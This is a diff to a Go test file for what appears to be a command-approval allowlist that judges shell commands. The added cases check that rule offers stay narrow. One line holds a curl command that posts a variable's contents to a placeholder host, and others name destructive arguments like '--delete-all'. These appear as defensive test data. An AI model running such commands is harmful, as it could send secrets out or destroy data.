@@ -152,7 +152,7 @@ func TestSuggested(t *testing.T) {
 	for line, want := range map[string]string{
 		"cat x": "program", "env cat x": "program", "find . -name x": "program", // any arguments of what only reads
 		"git rebase main": "words here", "git log -3": "words", "python3.12 a.py": "exact", "python3.12 a.py test": "words here",
-		"tool build x": "exact", "tool X": "exact", "git fetch": "exact", "git push origin main": "exact", "rm x": "exact",
+		"tool build x": "exact", "tool X": "exact", "git fetch": "words here", "git push origin main": "exact", "rm x": "exact",
 		"$ cat x; git rebase main": "words here", "$ git rebase main; tool X": "words here",
 		"python3.12 -c x": "exact",
 		"mkdir -p a/b":    "program here",
@@ -246,6 +246,8 @@ func TestSuggestedCovers(t *testing.T) {
 		{"/home/ann/p/tool check", "/home/ann/p/tool check --config=/home/ann/p/x.js", "allow"},
 		{"/home/ann/p/tool check", "/home/ann/p/tool check --host 0.0.0.0", "ask allowlist-miss"},
 		{"/home/ann/p/tool check", "/home/ann/p/tool check --to https://x.example", "ask allowlist-miss"},
+		{"/home/ann/p/tool rm x", "rm y", "ask allowlist-miss"}, // it may be no program
+		{"/home/ann/p/tool git commit", "git commit -m x", "ask allowlist-miss"},
 		{"python3.12 a.py", "python3.12 a.py --delete-all", "ask allowlist-miss"},
 		{"python3.12 a.py migrate", "python3.12 a.py migrate app zero", "ask allowlist-miss"},
 		{"python3.12 a.py migrate", "python3.12 a.py migrate --noinput", "allow"},
@@ -266,6 +268,9 @@ func TestNoOffers(t *testing.T) {
 	p.Ask = approval.AskAlways
 	if j := judge(p, "tool x", nil); len(j.Offers) != 0 {
 		t.Errorf("ask=always offers %v", j.Offers)
+	}
+	if j := judge(onMiss(), "$ curl -d \"$x\" https://x.example", nil); len(j.Offers) != 0 {
+		t.Errorf("the narrowest is anything that is sent there: %v", j.Offers)
 	}
 	if j := judge(onMiss("tool"), "tool x", nil); len(j.Offers) != 0 {
 		t.Errorf("what passes offers %v", j.Offers)
